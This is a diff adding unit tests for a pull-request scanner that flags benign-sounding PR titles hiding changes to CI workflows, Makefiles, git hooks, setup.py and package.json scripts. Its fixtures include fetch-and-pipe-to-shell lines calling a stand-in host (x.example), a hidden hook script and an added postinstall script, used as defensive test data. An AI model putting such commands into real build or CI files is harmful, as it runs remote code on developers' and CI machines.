@@ -387,3 +387,54 @@ describe('limits', () => {
   });
 
 });
+
+describe('pr-claim-mismatch beyond program source', () => {
+  const claimIn = (files: SnapshotFile[], title: string, contents: { path: string; base: string | null; head: string | null }[] = []): string[] => {
+    const snapshot = makeSnapshot({ title, files, contents, commits: [makeCommit({ message: title })] });
+    return scanCodeChanges(snapshot, (path) => classifier.info(path)).map((f) => `${f.id}@${f.path}:${f.line ?? '-'}`);
+  };
+  const yamlHunk = (added: readonly string[], removed: readonly string[] = []): string =>
+    [`@@ -10,${removed.length + 1} +10,${added.length + 1} @@`, '     steps:', ...removed.map((l) => `-${l}`), ...added.map((l) => `+${l}`)].join('\n');
+
+  it('a "fix typo" that changes what a workflow runs is reported at the first added line; a routine edit or a comment is not', () => {
+    const run = makeFile('.github/workflows/ci.yml', { patch: yamlHunk(['      - run: curl -sSf https://x.example/i.sh | bash'], ['      - run: npm test']) });
+    expect(claimIn([run], 'Fix typo in README')).toContain('pr-claim-mismatch@.github/workflows/ci.yml:11');
+    // The manager judges the edit routine (the caller says so): no mismatch.
+    const snapshot = makeSnapshot({ title: 'Fix typo', files: [run], commits: [makeCommit({ message: 'Fix typo' })] });
+    expect(scanCodeChanges(snapshot, (path) => classifier.info(path), () => true).map((f) => f.id)).not.toContain('pr-claim-mismatch');
+    const comment = makeFile('.github/workflows/ci.yml', { patch: yamlHunk(['      # Runs the tests'], ['      # Runs teh tests']) });
+    expect(claimIn([comment], 'Fix typo').join()).not.toContain('pr-claim-mismatch');
+    const word = makeFile('Dockerfile', { patch: yamlHunk(['LABEL description="Build image"'], ['LABEL description="Biuld image"']) });
+    expect(claimIn([word], 'Fix typo').join()).not.toContain('pr-claim-mismatch');
+  });
+
+  it('a Makefile, a git hook or a setup.py whose commands change under a formatting or version claim is reported', () => {
+    const make = makeFile('Makefile', { patch: yamlHunk(['\tcurl -s https://x.example/p | sh'], ['\tgo build ./...']) });
+    expect(claimIn([make], 'style: format Makefile').join()).toContain('pr-claim-mismatch@Makefile');
+    const hook = makeFile('.husky/pre-commit', { patch: yamlHunk(['node ./scripts/.cache/x.js'], ['npx lint-staged']) });
+    expect(claimIn([hook], 'chore: bump version to 1.4.2').join()).toContain('pr-claim-mismatch@.husky/pre-commit');
+    const setup = makeFile('setup.py', { patch: yamlHunk(["os.system('curl -s https://x.example/p | sh')", "version='1.4.2',"], ["version='1.4.1',"]) });
+    expect(claimIn([setup], 'Bump version to 1.4.2').join()).toContain('pr-claim-mismatch@setup.py');
+    // A version bumped in setup.py alone is what the title says.
+    const bump = makeFile('setup.py', { patch: yamlHunk(["    version='1.4.2',"], ["    version='1.4.1',"]) });
+    expect(claimIn([bump], 'Bump version to 1.4.2').join()).not.toContain('pr-claim-mismatch');
+  });
+
+  it('package.json: a script added or changed under a version claim is reported at its line; the version line alone is not', () => {
+    const base = JSON.stringify({ name: 'w', version: '1.0.0', scripts: { test: 'vitest' } }, null, 2);
+    const head = JSON.stringify({ name: 'w', version: '1.0.1', scripts: { test: 'vitest', postinstall: 'node ./lib/setup.js' } }, null, 2);
+    const patch = ['@@ -1,6 +1,7 @@', ' {', '   "name": "w",', '-  "version": "1.0.0",', '+  "version": "1.0.1",', '   "scripts": {', '-    "test": "vitest"', '+    "test": "vitest",', '+    "postinstall": "node ./lib/setup.js"', '   }', ' }'].join('\n');
+    const file = makeFile('package.json', { patch });
+    expect(claimIn([file], 'chore: bump version', [{ path: 'package.json', base, head }])).toContain('pr-claim-mismatch@package.json:6');
+    const onlyVersion = JSON.stringify({ name: 'w', version: '1.0.1', scripts: { test: 'vitest' } }, null, 2);
+    const versionPatch = ['@@ -1,4 +1,4 @@', ' {', '   "name": "w",', '-  "version": "1.0.0",', '+  "version": "1.0.1",'].join('\n');
+    expect(claimIn([makeFile('package.json', { patch: versionPatch })], 'chore: bump version', [{ path: 'package.json', base, head: onlyVersion }]).join()).not.toContain('pr-claim-mismatch');
+  });
+
+  it('a docs claim is not contradicted by the docs build, nor by a file the PR removes', () => {
+    const docs = makeFile('.github/workflows/docs.yml', { patch: yamlHunk(['      - run: mkdocs build --strict'], ['      - run: mkdocs build']) });
+    expect(claimIn([docs], 'docs: build the site strictly').join()).not.toContain('pr-claim-mismatch');
+    const removed = makeFile('Makefile', { status: 'removed', patch: yamlHunk([], ['\tgo build ./...']) });
+    expect(claimIn([removed], 'Fix typo').join()).not.toContain('pr-claim-mismatch');
+  });
+});
